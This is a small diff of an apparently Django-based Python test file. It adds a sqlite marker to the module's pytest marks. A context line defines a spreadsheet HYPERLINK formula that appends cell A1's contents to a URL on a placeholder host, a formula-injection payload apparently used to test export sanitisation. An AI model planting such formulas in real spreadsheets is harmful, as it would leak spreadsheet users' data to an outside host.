@@ -19,7 +19,7 @@ from tests.practice import Practice
 from tests.projects.admin import made
 from tests.projects.commandline.scripted import command
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.sqlite]
 
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
 
